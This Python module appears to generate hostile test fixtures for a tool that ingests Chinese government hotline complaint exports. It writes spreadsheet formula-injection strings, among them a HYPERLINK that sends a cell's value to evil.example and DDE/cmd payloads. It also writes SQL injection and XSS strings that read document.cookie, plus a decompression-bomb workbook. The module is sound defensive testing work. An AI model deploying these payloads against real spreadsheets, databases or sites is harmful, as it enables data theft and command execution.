"""Hostile fixtures (恶意与畸形输入样本) for the reliability tests, generated into a temporary folder.

Nothing here is committed as a binary: every file is written on demand by a function below, so the
repository carries only this generator.

* :data:`HOSTILE_TEXTS` — free texts a complainant (or a careless export) can produce: spreadsheet
  formulas (= + - @ tab CR at the start), SQL and HTML/JS, emoji with skin tones and ZWJ sequences,
  zero-width and right-to-left override characters, personal data hidden behind zero-width or
  full-width digits, and a 50,000-character text.
* :func:`hotline_rows`, :func:`write_hotline_csv`, :func:`write_hotline_xlsx` — a 12345 hotline
  export (the source with the fewest required columns) whose 诉求内容 are the hostile texts.
* :func:`truncated_xlsx`, :func:`image_as_csv`, :func:`empty_file`, :func:`oversized_workbook`,
  :func:`zip_bomb_like_xlsx`, :func:`unclosed_quote_csv` — files that cannot be loaded whole.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from collections.abc import Iterable, Sequence
from pathlib import Path

# Texts officials could click on or a spreadsheet could run (CSV/formula injection, OWASP).
FORMULA_TEXTS = {
    "formula_eq": '=HYPERLINK("http://evil.example/?q="&A1,"点此查看办理进度")',
    "formula_plus": "+cmd|' /C calc'!A0 营业执照办理太慢",
    "formula_minus": "-2+3+cmd|' /C notepad'!A0 窗口人员态度差",
    "formula_at": "@SUM(1,2) 企业开办跑了三次",
    "formula_tab": "\t=1+1 纳税申报系统经常卡顿",
    "formula_cr": "\r=1+1 不动产登记排队时间长",
    "formula_dde": "=DDE(\"cmd\";\"/C calc\";\"!A0\") 施工许可审批慢",
}
SQL_TEXTS = {
    "sql_drop": "'); DROP TABLE feedback; -- 用电报装收费不透明",
    "sql_or": "1' OR '1'='1' -- 办税大厅排长队",
    "sql_union": "x\" UNION SELECT text FROM feedback WHERE \"1\"=\"1 融资难融资贵",
}
HTML_TEXTS = {
    "html_script": "<script>alert('营商')</script>窗口服务不满意",
    "html_img": "<img src=x onerror=alert(document.cookie)>执法检查过于频繁",
    "html_entity": "&lt;b&gt;已转义&lt;/b&gt; & <b>粗体</b> 法院执行慢",
}
UNICODE_TEXTS = {
    "emoji": "办个营业执照跑了五趟😡👎🏻👨‍👩‍👧 太难了🙏",
    "zero_width": "营\u200b业\u200c执\u200d照\u2060办\ufeff理太慢",
    "rtl": "\u202e慢太批审可许工施\u202c 请尽快处理 مرحبا עברית",
    "combining": "企业注销流程太复杂 Z\u0351\u0352\u0353a\u0300\u0301lgo",
    "astral_cjk": "𠀀𪚥𰻝 这些字要保留 营商环境",
    "controls": "水电\x01气\x07暖\x1b报装\x7f慢",
}
# Personal data dressed up so a naive regex misses it: the normaliser must expose it to the masker.
DISGUISED_PII_TEXTS = {
    "phone_zero_width": "请回电138\u200b1234\u200b5678，办证太慢",
    "phone_full_width": "我的电话１３９１２３４５６７８，窗口态度差",
}
LONG_TEXT_CHARS = 50_000


def long_text(n: int = LONG_TEXT_CHARS) -> str:
    """A ``n``-character complaint (a pasted document): realistic words, no personal data."""
    unit = "企业反映不动产登记窗口排队时间长，办理进度无法查询，希望优化流程。"
    return (unit * (n // len(unit) + 1))[:n]


HOSTILE_TEXTS: dict[str, str] = {
    **FORMULA_TEXTS,
    **SQL_TEXTS,
    **HTML_TEXTS,
    **UNICODE_TEXTS,
    **DISGUISED_PII_TEXTS,
    "long_50k": long_text(),
}

# Characters that must never survive normalisation (they hide or reorder text).
INVISIBLE = "\u200b\u200c\u200d\u200e\u200f\u2060\ufeff\u00ad\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"

HOTLINE_HEADER = ["工单编号", "来电时间", "受理渠道", "诉求类型", "来电人姓名", "联系电话", "工单标题",
                  "诉求内容", "承办单位", "工单状态"]


def hotline_rows(texts: Iterable[str], prefix: str = "HX", start: dt.datetime | None = None,
                 titles: Sequence[str] | None = None) -> list[list[str]]:
    """One hotline work order per text (cells as text, in :data:`HOTLINE_HEADER` order)."""
    start = start or dt.datetime(2026, 10, 12, 9, 0)
    out = []
    for i, text in enumerate(texts):
        when = start + dt.timedelta(minutes=37 * i)
        title = titles[i] if titles is not None else f"工单{i + 1}"
        out.append([f"{prefix}{i + 1:06d}", when.strftime("%Y-%m-%d %H:%M:%S"), "电话", "投诉", "张三",
                    "", title, text, "区政务服务中心", "已办结"])
    return out


def write_hotline_csv(path: Path, rows: Sequence[Sequence[str]], encoding: str = "utf-8-sig",
                      header: Sequence[str] = HOTLINE_HEADER) -> Path:
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", encoding=encoding, newline="") as fh:
        w = csv.writer(fh, lineterminator="\r\n")
        w.writerow(header)
        w.writerows(rows)
    return path


def write_hotline_xlsx(path: Path, rows: Sequence[Sequence[str]], header: Sequence[str] = HOTLINE_HEADER) -> Path:
    """The same export as a workbook; every cell written as a string (the way exporters do)."""
    import xlsxwriter

    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    wb = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False,
                                         "strings_to_numbers": False})
    ws = wb.add_worksheet("工单")
    for c, h in enumerate(header):
        ws.write_string(0, c, h)
    for r, row in enumerate(rows, start=1):
        for c, v in enumerate(row):
            ws.write_string(r, c, v)
    wb.close()
    return path


def truncated_xlsx(path: Path, rows: Sequence[Sequence[str]] | None = None, keep: float = 0.5) -> Path:
    """A real hotline workbook cut after ``keep`` of its bytes (an interrupted e-mail download)."""
    full = write_hotline_xlsx(Path(path).with_suffix(".full.xlsx"),
                              rows or hotline_rows([f"诉求{i}" for i in range(200)]))
    data = full.read_bytes()
    full.unlink()
    _parent(path).write_bytes(data[: int(len(data) * keep)])
    return Path(path)


PNG_1PX = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15"
           b"\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND"
           b"\xaeB`\x82")


def _parent(path: Path) -> Path:
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def image_as_csv(path: Path) -> Path:
    """A screenshot saved under a .csv name."""
    _parent(path).write_bytes(PNG_1PX + bytes(range(256)) * 8)
    return Path(path)


def empty_file(path: Path) -> Path:
    _parent(path).write_bytes(b"")
    return Path(path)


def oversized_workbook(path: Path, min_bytes: int) -> Path:
    """A valid hotline workbook of at least ``min_bytes`` bytes (incompressible text, so it stays big)."""
    import random

    rng = random.Random(5)
    pool = "营商环境企业办理窗口审批登记纳税融资执法服务水电气暖不动产执照流程材料系统网上"
    rows, size = [], 0
    i = 0
    while size < min_bytes * 1.3:
        text = "".join(rng.choice(pool) for _ in range(400))
        rows.append(text)
        size += len(text.encode("utf-8")) // 2  # zip roughly halves random CJK text
        i += 1
    p = write_hotline_xlsx(path, hotline_rows(rows, prefix="BIG"))
    assert p.stat().st_size >= min_bytes, (p.stat().st_size, min_bytes)
    return p


def zip_bomb_like_xlsx(path: Path, inflated_mb: int = 64) -> Path:
    """A small .xlsx whose sheet inflates to ``inflated_mb`` MB of one repeated cell (decompression bomb)."""
    path = _parent(path)
    sheet_head = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                  '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
    row = '<row><c t="inlineStr"><is><t>工单编号</t></is></c></row>'
    body = io.BytesIO()
    body.write(sheet_head.encode())
    chunk = (row * 10_000).encode()
    while body.tell() < inflated_mb * 2**20:
        body.write(chunk)
    body.write(b"</sheetData></worksheet>")
    ct = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
          'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
          'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName='
          '"/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.'
          'main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
          'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
    wb = ('<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
          'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
          'relationships"><sheets><sheet name="工单" sheetId="1" r:id="rId1"/></sheets></workbook>')
    wb_rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
               'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
               'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", ct)
        z.writestr("_rels/.rels", rels)
        z.writestr("xl/workbook.xml", wb)
        z.writestr("xl/_rels/workbook.xml.rels", wb_rels)
        z.writestr("xl/worksheets/sheet1.xml", body.getvalue())
    return path


def unclosed_quote_csv(path: Path, n: int = 50, at: int = 2) -> Path:
    """A hotline CSV whose record ``at`` (0-based) opens a quote that never closes (swallows the rest)."""
    rows = hotline_rows([f"诉求{i}" for i in range(n)])
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(HOTLINE_HEADER)
    w.writerows(rows[:at])
    bad = list(rows[at])
    bad[7] = '"引号没有结束，后面的记录都被吞掉'
    buf.write(",".join(bad) + "\r\n")
    w.writerows(rows[at + 1:])
    _parent(path).write_text(buf.getvalue(), encoding="utf-8")
    return Path(path)
